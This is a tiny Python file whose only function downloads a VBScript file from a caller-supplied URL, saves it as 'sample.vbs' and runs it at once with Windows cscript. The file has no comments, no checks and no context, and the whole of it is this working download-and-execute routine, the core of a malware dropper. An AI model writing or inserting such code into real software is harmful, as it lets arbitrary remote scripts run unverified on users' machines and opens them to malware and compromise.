import subprocess
import urllib.request


def begin(address):
    urllib.request.urlretrieve(address, "sample.vbs")
    subprocess.run(["cscript", "//nologo", "sample.vbs"], check=True)
